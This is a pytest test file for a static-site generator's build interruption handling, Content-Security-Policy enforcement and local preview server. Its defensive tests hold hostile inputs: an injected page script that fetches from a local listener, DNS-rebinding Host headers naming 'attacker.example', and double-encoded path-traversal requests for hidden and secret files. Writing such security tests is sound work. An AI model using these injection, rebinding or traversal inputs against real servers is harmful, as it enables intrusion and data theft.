            process = subprocess.Popen(
                argv,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
                preexec_fn=_default_sigint,  # even when pytest itself runs with SIGINT ignored
            )
            time.sleep(duration * fraction)
            process.send_signal(signal.SIGINT)
            out, err = process.communicate(timeout=120)
            assert "Traceback" not in err, (fraction, err)
            said = err.strip().splitlines()
            if process.returncode == 130 and said == [
                f"Error: interrupted; {world.out}/ unchanged"
            ]:
                interrupted += 1
                assert snapshot(world.out) == before
            elif process.returncode == 130:
                # after the swap (a lock released, the report printed): the new build, whole
                assert said == [
                    f"Error: interrupted after the build was written; {world.out}/ holds it"
                ], (fraction, err)
                assert "Qiaotou (new)" in (world.out / "index.html").read_text(encoding="utf-8")
                break
            else:
                # Finished before the signal (-2: it came while Python was shutting down,
                # after its handler was gone): the new build is in place, whole.
                # (the edit leaves the zh text stale: a warning, and only that, may be printed)
                errors = [line for line in err.splitlines() if ": warning: " not in line]
                assert process.returncode in (0, -signal.SIGINT) and not errors, (
                    fraction,
                    process.returncode,
                    err,
                )
                assert "Qiaotou (new)" in (world.out / "index.html").read_text(encoding="utf-8")
                break  # the later moments would be too
        if interrupted:
            break
    assert interrupted, "no run was interrupted in three rounds"


def test_ctrl_c_after_the_swap_is_not_called_unchanged(world, monkeypatch, capsys):
    """Ctrl+C that lands once the build has committed (here: as the report is printed)
    must not say the output folder is unchanged: it holds the new build."""
    _edit_prose(world)

    def interrupted(report: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(cli, "print_report", interrupted)
    argv = [world.sub(a) for a in build()]
    argv.remove("-q")
    assert cli.main(argv) == 130
    said = capsys.readouterr().err.strip().splitlines()
    assert said[-1] == f"Error: interrupted after the build was written; {world.out}/ holds it"
    assert "Qiaotou (new)" in (world.out / "index.html").read_text(encoding="utf-8")


def test_ctrl_c_before_the_swap_leaves_the_folder_as_it_was(world, monkeypatch, capsys):
    """The same moment's twin before the commit: the folder as it was, and said so."""
    from policybrief.build import pipeline

    _edit_prose(world)
    before = snapshot(world.out)

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(pipeline, "write_site", interrupted)
    assert cli.main([world.sub(a) for a in build()]) == 130
    said = capsys.readouterr().err.strip().splitlines()
    assert said == [f"Error: interrupted; {world.out}/ unchanged"]
    assert snapshot(world.out) == before


# -- the browser refuses outside loads by itself ----------------------------------------------


def _inject(html: str, url: str) -> str:
    """What a hand-edited or tampered page could hold: a remote image, style sheet, font,
    background and script, none of which the build would have let through."""
    injected = (
        f'<img alt="" src="{url}/image.png">'
        f'<link rel="stylesheet" href="{url}/style.css">'
        f"<style>@font-face {{ font-family: Remote; src: url({url}/font.woff2); }}"
        f" body {{ font-family: Remote, serif; }}</style>"
        f'<p style="background-image: url({url}/background.png)">x</p>'
        f'<script>fetch("{url}/fetch"); new Image().src = "{url}/script.png";</script>'
    )
    cut = html.index(">", html.index("<body")) + 1
    return html[:cut] + injected + html[cut:]


def test_csp_makes_the_browser_refuse_outside_loads(good, listener, tmp_path):
    from browser import CHROMIUM, SETUP, chromium, in_ci, static_server
    from helpers import parse_html

    if not CHROMIUM.exists():  # (axe-core, which require_browser() also wants, is not used)
        if in_ci():
            pytest.fail(f"CI is set but {CHROMIUM} is missing; {SETUP}", pytrace=False)
        pytest.skip(f"{CHROMIUM} is missing; {SETUP}")
    site = tmp_path / "site"
    shutil.copytree(good, site)
    page = site / "qiaotou/decision-makers.en.html"
    head = next(e for e in parse_html(page).iter() if e.tag.endswith("}head"))
    first = next(iter(head))
    assert (first.get("http-equiv"), first.get("id")) == (
        "Content-Security-Policy",
        "policybrief-csp",
    )
    url = f"http://127.0.0.1:{listener.server_address[1]}"
    html = page.read_text(encoding="utf-8")
    (site / "qiaotou/hostile.html").write_text(_inject(html, url), encoding="utf-8")
    without = html.replace(
        html[
            html.index('<meta http-equiv="Content-Security-Policy"') : html.index(
                ">", html.index("policybrief-csp")
            )
            + 1
        ],
        "",
    )
    (site / "qiaotou/control.html").write_text(_inject(without, url), encoding="utf-8")
    seen: dict[str, list[str]] = {}
    with static_server(site) as base, chromium() as browser:
        for name in (
            "qiaotou/decision-makers.en",
            "index",
            "facts",
            "qiaotou/hostile",
            "qiaotou/control",
        ):
            listener.requests.clear()
            context = browser.new_context()
            tab = context.new_page()
            console: list[str] = []
            tab.on("console", lambda m, c=console: c.append(m.text))
            tab.goto(f"{base}{name}.html", wait_until="load")
            tab.wait_for_timeout(500)
            seen[name] = [*listener.requests]
            if "/hostile" not in name and "/control" not in name:
                # the built pages break no rule of their own policy; the brief's inline
                # script (the citation popover) runs under it
                assert not [m for m in console if "Content Security Policy" in m], console
            if name == "qiaotou/decision-makers.en":
                tab.click("sup.cite a")
                assert tab.is_visible("#cite-pop")
            context.close()
    listener.requests.clear()
    assert seen["qiaotou/decision-makers.en"] == seen["index"] == seen["facts"] == []
    assert seen["qiaotou/hostile"] == [], seen["qiaotou/hostile"]
    # the same page without the policy: the test can see requests when they happen
    assert {"/image.png", "/style.css", "/fetch"} <= set(seen["qiaotou/control"]), seen[
        "qiaotou/control"
    ]


def test_only_the_served_page_allows_the_reload_script(good):
    """The files carry the strict policy; `serve` widens it per response by a fresh nonce
    for its own script and its requests to itself, and for nothing else."""
    from policybrief.cli.serve import inject

    html = (good / "qiaotou/decision-makers.en.html").read_text(encoding="utf-8")
    assert "connect-src" not in html and "nonce-" not in html
    served = [inject(html, "/qiaotou/decision-makers.en.html", "t", [], []) for _ in range(2)]
    nonces = []
    for page in served:
        policy = page[page.index('content="', page.index("policybrief-csp")) + 9 :]
        policy = policy[: policy.index('"')]
        nonce = policy.split("'nonce-")[1].split("'")[0]
        nonces.append(nonce)
        assert f'<script id="policybrief-livereload" nonce="{nonce}">' in page
        assert policy.endswith("; connect-src 'self'")
        assert "unsafe-inline' ;" not in policy and "script-src 'unsafe-inline'" not in policy
    assert nonces[0] != nonces[1]


# -- the preview server answers only this machine's browser, and only for published files --

SERVED = "qiaotou/decision-makers.en.html"
# (Host header, or None for the server's own "127.0.0.1:<port>"; raw request path; status)
PREVIEW_CASES = {
    "rebinding: another site's name": ("attacker.example:{port}", "/" + SERVED, 421),
    "rebinding: the right port, a rebound name": ("rebind.127.0.0.1.nip.io:{port}", "/", 421),
    "rebinding: localhost on another port": ("localhost:1", "/" + SERVED, 421),
    "rebinding: no port": ("localhost", "/" + SERVED, 421),
    "rebinding: no Host header": ("", "/" + SERVED, 421),
    "rebinding: a suffix of localhost": ("localhost.attacker.example:{port}", "/", 421),
    "rebinding: 0.0.0.0": ("0.0.0.0:{port}", "/" + SERVED, 421),
    "rebinding: the reload endpoint": ("attacker.example:{port}", "/__reload?page=/", 421),
    "localhost is served": ("localhost:{port}", "/" + SERVED, 200),
    "127.0.0.1 is served": (None, "/" + SERVED, 200),
    "[::1] is served": ("[::1]:{port}", "/" + SERVED, 200),
    "a hidden file": (None, "/.secret.html", 404),
    "a hidden file, encoded dot": (None, "/%2esecret.html", 404),
    "a hidden file, double-encoded dot": (None, "/%252esecret.html", 404),
    "a hidden folder, double-encoded dot": (None, "/%252estaging/draft.html", 404),
    "the cache, double-encoded dot": (None, "/%252epolicybrief-cache/key.txt", 404),
    "a double-encoded slash": (None, "/qiaotou%252fdecision-makers.en.html", 404),
    "climbing, double-encoded": (None, "/%252e%252e/secret.txt", 404),
}


@pytest.fixture(scope="module")
def preview(good, tmp_path_factory):
    """The preview server on the good output, a draft hidden in its staging folder."""
    from policybrief.cli.serve import Preview, make_server

    out = tmp_path_factory.mktemp("served") / "out"
    shutil.copytree(good, out)
    for hidden in (".secret.html", ".staging/draft.html", ".policybrief-cache/key.txt"):
        (out / hidden).parent.mkdir(parents=True, exist_ok=True)
        (out / hidden).write_text("<p>DRAFT</p>", encoding="utf-8")
    (out.parent / "secret.txt").write_text(SECRET, encoding="utf-8")
    server = make_server(Preview(out), 0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("name", list(PREVIEW_CASES))
def test_the_preview_answers_only_localhost_for_published_files(preview, name):
    import http.client

    host, path, status = PREVIEW_CASES[name]
    port = preview.server_address[1]
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    connection.putrequest("GET", path, skip_host=True)
    if host != "":
        connection.putheader("Host", (host or "127.0.0.1:{port}").format(port=port))
    connection.endheaders()
    response = connection.getresponse()
    body = response.read().decode("utf-8", "replace")
    connection.close()
    assert response.status == status, (response.status, body[:300])
    assert "DRAFT" not in body and "TOP SECRET" not in body
    if status == 200:
        assert "<html" in body


def test_the_preview_cases_are_counted():
    assert len(PREVIEW_CASES) >= 15
